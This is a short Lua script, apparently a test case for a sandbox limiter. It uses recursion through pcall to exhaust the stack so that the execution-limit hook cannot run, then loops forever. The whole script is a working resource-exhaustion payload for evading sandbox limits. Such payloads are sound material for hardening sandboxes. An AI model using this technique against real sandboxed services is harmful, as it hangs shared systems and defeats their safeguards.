-- technique: works where the hook has no room left to be called; must: limit
function run(input)
  local function leaf() while true do end end
  local function down()
    local ok, e = pcall(down)
    if not ok or e == "deep" then while true do pcall(leaf) end end
    return "deep"
  end
  return down()
end
